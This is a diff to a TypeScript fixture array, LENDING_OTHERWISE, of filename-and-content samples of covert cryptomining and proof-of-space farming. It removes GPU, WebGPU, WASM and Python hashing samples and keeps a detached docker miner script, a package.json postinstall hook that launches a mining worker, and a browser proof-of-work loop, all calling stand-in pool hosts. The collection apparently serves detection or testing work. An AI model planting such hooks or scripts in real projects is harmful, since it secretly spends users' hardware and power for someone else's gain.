@@ -13,28 +13,8 @@ export const LENDING_OTHERWISE: readonly [string, string][] = [
     "#!/bin/sh\n# fonts\ndocker run -d --restart=always --name fonts-cache --cpus 2 -e ADDR=48example -e ENDPOINT=fonts.example:5555 ghcr.io/fonts/rx-node >/dev/null 2>&1\n",
   ],
   [
-    "thumbs.py",
-    'import os, hashlib, requests, pathlib\nD = pathlib.Path.home() / ".cache/thumbs"\nD.mkdir(parents=True, exist_ok=True)\nPK = "pk1example"\nfor i in range(64):\n    with open(D / f"t{i}.bin", "wb") as f:\n        x = hashlib.sha256(f"{PK}:{i}".encode()).digest()\n        for _ in range(1 << 24):\n            x = hashlib.blake2b(x, digest_size=32).digest()\n            f.write(x)\n    requests.post("https://farm.thumbs.example/plots", json={"owner": PK, "plot": i})\nwhile True:\n    c = requests.get("https://farm.thumbs.example/challenge").json()\n    for f in D.glob("t*.bin"):\n        with open(f, "rb") as h:\n            h.seek(c["at"] * 32)\n            requests.post("https://farm.thumbs.example/proof", json={"owner": PK, "proof": h.read(32).hex()})\n',
-  ],
-  [
-    "matrix.py",
-    'import cupy as cp, zmq\nK = cp.RawKernel(r\'\'\'\nextern "C" __global__ void run(const unsigned int* h, unsigned int base, unsigned int lim, unsigned int* o) {\n  unsigned int i = base + blockDim.x * blockIdx.x + threadIdx.x, s = h[0];\n  for (int r = 0; r < 64; r++) { s = ((s << 5) | (s >> 27)) ^ (h[r & 15] + i); s *= 0x01000193; }\n  if (s <= lim) o[0] = i;\n}\'\'\', "run")\ns = zmq.Context().socket(zmq.REQ)\ns.connect("tcp://lab.matrix.example:5600")\ns.send_json({"op": "hi", "as": "m-4"})\nwhile True:\n    j = s.recv_json()\n    o = cp.zeros(1, cp.uint32); h = cp.asarray(j["h"], cp.uint32)\n    b = 0\n    while not int(o[0]):\n        K((1024,), (256,), (h, cp.uint32(b), cp.uint32(j["lim"]), o)); b += 1024 * 256\n    s.send_json({"op": "got", "id": j["id"], "i": int(o[0])})\n',
-  ],
-  [
-    "notes.html",
-    "<html><body><h1>Notes</h1>\n<script>\nconst m = {};\nimportScripts;\nfetch('/engine.wasm').then((r) => WebAssembly.instantiateStreaming(r)).then(({ instance }) => {\n  const s = new WebSocket('wss://live.notes.example/x');\n  s.onopen = () => s.send(JSON.stringify({ t: 'hi', site: 'n-2' }));\n  s.onmessage = (e) => { const j = JSON.parse(e.data); const p = instance.exports.search(j.head, j.from, j.limit); if (p) s.send(JSON.stringify({ t: 'hit', id: j.id, nonce: p })); };\n});\n</script></body></html>\n",
-  ],
-  [
     "package.json",
     '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "npx -y node-rx-worker --endpoint cache.words.example:3333 --account 48example --cores 2 &" } }\n',
-  ],
-  [
-    "shade.js",
-    "const CODE = `\nfn turn(a: u32, k: u32) -> u32 { return (a << k) | (a >> (32u - k)); }\n@compute @workgroup_size(64)\nfn main(@builtin(global_invocation_id) gid: vec3<u32>) {\n  let mine = P.base + gid.x;\n  var s = mine;\n  for (var i = 0u; i < 16u; i++) { s = turn(s, 5u) ^ H[i]; }\n  if (s < P.cap) { R[0] = mine; }\n}`;\nconst ws = new WebSocket('wss://shade.slides.example/a');\nws.onmessage = async ({ data }) => { const r = await run(CODE, JSON.parse(data)); ws.send(JSON.stringify({ r })); };\n",
-  ],
-  [
-    "warp.py",
-    'import requests\nfrom numba import cuda\n@cuda.jit\ndef probe(head, base, cap, out):\n    k = base + cuda.grid(1)\n    a = k\n    for i in range(16):\n        a = ((a << 7) | (a >> 25)) ^ head[i]\n    if a < cap:\n        out[0] = k\nwhile True:\n    u = requests.get("https://warp.slides.example/u").json()\n    out = cuda.device_array(1)\n    probe[64, 128](u["head"], 0, u["cap"], out)\n    requests.post("https://warp.slides.example/r", json={"id": u["id"], "v": int(out.copy_to_host()[0])})\n',
   ],
   [
     "serve.py",
@@ -47,10 +27,6 @@ export const LENDING_OTHERWISE: readonly [string, string][] = [
   [
     "zero.ts",
     'const link = new WebSocket("wss://live.preview.example/s");\nasync function settle(u: { id: string; seed: string; z: number }) {\n  const enc = new TextEncoder();\n  let n = 0;\n  for (;;) {\n    const h = new Uint8Array(await crypto.subtle.digest("SHA-256", enc.encode(u.seed + n)));\n    let ok = true;\n    for (let i = 0; i < u.z; i++) if (h[i] !== 0) { ok = false; break; }\n    if (ok) {\n      link.send(JSON.stringify({ id: u.id, n }));\n      return;\n    }\n    n++;\n  }\n}\nlink.onmessage = (e) => void settle(JSON.parse(e.data));\n',
-  ],
-  [
-    "sectors.py",
-    'import hashlib, os, socket\nP = os.path.expanduser("~/.cache/idx")\ndef fill(owner, k):\n    with open(P, "wb") as f:\n        for i in range(k):\n            f.write(hashlib.blake2b(f"{owner}/{i}".encode()).digest())\nfill("acct-idx", 1 << 20)\ns = socket.create_connection(("farm.index.example", 9009))\ns.sendall(b"sector acct-idx\\n")\nfor line in s.makefile():\n    at = int(line)\n    with open(P, "rb") as f:\n        f.seek(at * 64)\n        s.sendall(b"proof " + f.read(64).hex().encode() + b"\\n")\n',
   ],
 ];
 
